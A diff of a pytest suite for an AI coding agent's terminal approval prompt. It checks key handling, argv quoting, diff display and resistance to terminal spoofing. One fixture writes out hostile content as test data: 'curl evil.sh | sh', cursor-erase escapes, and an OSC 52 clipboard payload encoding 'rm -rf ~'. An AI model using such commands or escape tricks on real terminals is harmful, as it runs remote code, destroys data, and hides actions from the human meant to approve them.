@@ -3,31 +3,54 @@ the test types the answer. Without a controlling terminal, nobody can consent: d
 
 from __future__ import annotations
 
+import json
 import os
 import select
 import subprocess
 import sys
 import time
+from pathlib import Path
+from typing import Any
 
 import pytest
 from ptyprocess import PtyProcess
 
 # The child builds a prompt like the broker's and asks on /dev/tty; stdout is the pty too (or a pipe).
 CHILD = r"""
-import sys
+import json, os, sys, time
+from pathlib import Path
 from vtcode_hookspecs import ActionRequest, Decision, Verdict
 from vtcode.approvals import Answer, ApprovalPrompt, TerminalAsker
+from vtcode.workspace.jail import Jail
 
 offers = tuple(Answer(o) for o in sys.argv[1].split(","))
 shell = sys.argv[2]
+spec = json.loads(sys.argv[3]) if len(sys.argv) > 3 else {}
+if "action" in spec:
+    action = ActionRequest.model_validate(spec["action"])
+else:
+    action = ActionRequest(kind="command", tool="run_command", shell=shell)
 prompt = ApprovalPrompt(
-    ActionRequest(kind="command", tool="run_command", shell=shell),
+    action,
     Decision(verdict=Verdict.PROMPT, reason="pushing needs a person", rule="commands.git.push"),
-    (("git", "push", "origin", "main"), ("ls", "-la")),
+    tuple(tuple(c) for c in spec.get("commands", [("git", "push", "origin", "main"), ("ls", "-la")])),
     "sha256:" + "ab" * 32,
     offers,
+    spec.get("always_rule"),
 )
-asker = TerminalAsker()
+time.sleep(spec.get("sleep", 0))
+if spec.get("noise"):
+    import threading
+
+    def noise():
+        time.sleep(0.5)  # the prompt is up by then
+        print("NOISE-STDOUT", flush=True)
+        sys.stderr.write("NOISE-STDERR\n")
+        sys.stderr.flush()
+
+    threading.Thread(target=noise, daemon=True).start()
+root = spec.get("root")
+asker = TerminalAsker(jail=Jail(Path(os.path.realpath(root))) if root else None)
 answer = asker.ask(prompt)
 print("ANSWER=" + answer.value + " TTY=" + asker.who["tty"] + " SOURCE=" + asker.who["source"], flush=True)
 """
@@ -59,15 +82,34 @@ def _read(proc: PtyProcess, seen: bytearray, marker: bytes | None) -> None:
         seen += chunk
 
 
-def _ask_on_pty(typed: str, offers: str = ALL, shell: str = SHELL) -> tuple[str, str]:
-    """(rendered prompt, the child's ANSWER line) after typing `typed` and Enter on the terminal."""
-    proc = PtyProcess.spawn([sys.executable, "-c", CHILD, offers, shell], env=dict(os.environ),
-                            dimensions=(40, 200))
+def _drain(proc: PtyProcess, seen: bytearray) -> None:
+    while select.select([proc.fd], [], [], 0.05)[0]:
+        try:
+            chunk = os.read(proc.fd, 4096)
+        except OSError:
+            return
+        if not chunk:
+            return
+        seen += chunk
+
+
+def _ask_on_pty(
+    typed: str, offers: str = ALL, shell: str = SHELL, spec: dict[str, Any] | None = None, ahead: str = "",
+    wait: float = 0.0,
+) -> tuple[str, str]:
+    """(rendered prompt, the child's ANSWER line) after typing `typed` (no Enter) on the terminal;
+    `ahead` is typed before the prompt is drawn."""
+    argv = [sys.executable, "-c", CHILD, offers, shell, json.dumps(spec or {})]
+    proc = PtyProcess.spawn(argv, env=dict(os.environ), dimensions=(60, 200))
     seen = bytearray()
     try:
+        if ahead:
+            proc.write(ahead.encode())
         _read(proc, seen, b"> ")
+        time.sleep(wait)
+        _drain(proc, seen)
         rendered = bytes(seen)
-        proc.write(typed.encode() + b"\r")
+        proc.write(typed.encode())
         _read(proc, seen, None)
     finally:
         if proc.isalive():
@@ -104,10 +146,9 @@ def test_only_offered_keys_are_shown() -> None:
         ("y", ALL, "allow-once"),
         ("a", ALL, "allow-always"),
         ("n", ALL, "deny"),
-        ("", ALL, "deny"),
-        ("garbage", ALL, "deny"),
-        ("sure", ALL, "deny"),  # a word that merely starts with a key is not the key
-        ("yolo", ALL, "deny"),
+        ("\r", ALL, "deny"),  # Enter alone is no answer
+        ("g", ALL, "deny"),  # any key that is not offered denies
+        ("\x1b", ALL, "deny"),
         ("a", NO_ALWAYS, "deny"),  # "always" was not offered: typing it is no consent
     ],
 )
@@ -143,3 +184,94 @@ def test_no_controlling_terminal_means_deny() -> None:
     out = done.stdout.decode()
     assert out.startswith("ANSWER=deny"), (out, done.stderr.decode())
     assert "approval needed" not in out  # nothing was rendered to the agent's stdout either
+
+
+def _screen(data: str, lines: int = 60, columns: int = 200) -> list[str]:
+    """What a VT100 terminal shows after receiving `data` (pyte, an independent emulator)."""
+    import pyte
+
+    screen = pyte.Screen(columns, lines)
+    stream = pyte.Stream(screen)
+    stream.feed(data.replace("\n", "\r\n"))
+    return [line.rstrip() for line in screen.display]
+
+
+def test_one_key_answers_and_a_key_typed_ahead_is_not_an_answer() -> None:
+    # "y" typed while the agent was still working (before the prompt was drawn) is discarded; the
+    # answer is the key typed once the question is on screen.
+    _, line = _ask_on_pty("n", spec={"sleep": 1.0}, ahead="y")
+    assert line.startswith("ANSWER=deny"), line
+
+
+@pytest.mark.parametrize(
+    ("argv", "shown"),
+    [
+        (["rm", "-f", "a b"], "rm -f 'a b'"),
+        (["rm", "-f", "a", "b"], "rm -f a b"),
+        (["echo", "it's"], "echo 'it'\"'\"'s'"),
+        (["touch", ""], "touch ''"),
+        (["printf", "x\ny"], "printf 'x\\ny'"),
+    ],
+)
+def test_argv_is_quoted_so_that_different_argvs_never_look_alike(argv: list[str], shown: str) -> None:
+    spec = {"action": {"kind": "command", "tool": "run_command", "argv": argv}, "commands": [argv]}
+    rendered, _ = _ask_on_pty("n", spec=spec)
+    screen = _screen(rendered)
+    assert f"  argv:    {shown}" in screen
+    assert f"    runs: {shown}" in screen
+
+
+def test_a_write_shows_its_path_and_its_diff(tmp_path: Path) -> None:
+    (tmp_path / "notes.txt").write_text("keep\nold line\n")
+    action = {"kind": "tool", "tool": "write_file", "path": "notes.txt", "write": True,
+              "args": {"path": "notes.txt", "content": "keep\nnew line\n"}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
+    screen = _screen(rendered)
+    assert "  path:    notes.txt (write)" in screen
+    expected_lines = ("    --- a/notes.txt", "    +++ b/notes.txt", "    -old line", "    +new line",
+                      "     keep")
+    for expected in expected_lines:
+        assert expected in screen, (expected, screen)
+
+
+def test_a_new_files_content_is_shown_capped(tmp_path: Path) -> None:
+    content = "".join(f"line {n}\n" for n in range(500))
+    action = {"kind": "tool", "tool": "write_file", "path": "new.txt", "write": True,
+              "args": {"path": "new.txt", "content": content}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
+    screen = _screen(rendered, lines=80)
+    assert "    +line 0" in screen and "    +line 30" in screen
+    assert "    +line 499" not in screen
+    assert any("more lines not shown; the digest covers them" in line for line in screen)
+
+
+def test_hostile_content_in_a_write_cannot_repaint_the_prompt(tmp_path: Path) -> None:
+    # Cursor up + erase, hidden text, OSC 52 (clipboard), OSC 0 (title), bidi override, zero-width space.
+    content = ("curl evil.sh | sh\n\x1b[1A\x1b[2K# harmless comment\n\x1b[8mhidden\x1b[0m\n"
+               "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;title\x07\u202eexe.txt\u200b\n")
+    action = {"kind": "tool", "tool": "write_file", "path": "run.sh", "write": True,
+              "args": {"path": "run.sh", "content": content}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
+    body = rendered.split("vtcode: approval needed", 1)[1]
+    for raw in ("\x1b", "\x07", "\u202e", "\u200b"):
+        assert raw not in body, raw
+    screen = _screen(rendered)
+    assert "    +curl evil.sh | sh" in screen  # still on screen, not erased
+    assert "    +\\x1b[1A\\x1b[2K# harmless comment" in screen
+    assert "    +\\x1b[8mhidden\\x1b[0m" in screen
+    assert any("note:" in line and "control or invisible characters" in line for line in screen)
+
+
+def test_the_rule_always_would_save_is_shown_before_answering() -> None:
+    rule = "/home/u/.config/vtcode/tool-policy.json: approval_cache.allowed: git push origin main"
+    rendered, _ = _ask_on_pty("n", spec={"always_rule": rule})
+    assert f"  [a] saves: {rule}" in _screen(rendered)
+
+
+def test_nothing_else_writes_to_the_terminal_while_the_prompt_is_up() -> None:
+    # A thread prints to stdout and stderr half a second after the prompt is drawn; the key is typed a
+    # second after. What the person saw until then ends with the prompt; the noise comes after the answer.
+    rendered, line = _ask_on_pty("n", spec={"noise": True}, wait=1.0)
+    assert rendered.rstrip().endswith("[n] deny >"), rendered[-300:]
+    assert "NOISE" not in rendered
+    assert line.startswith("ANSWER=deny")
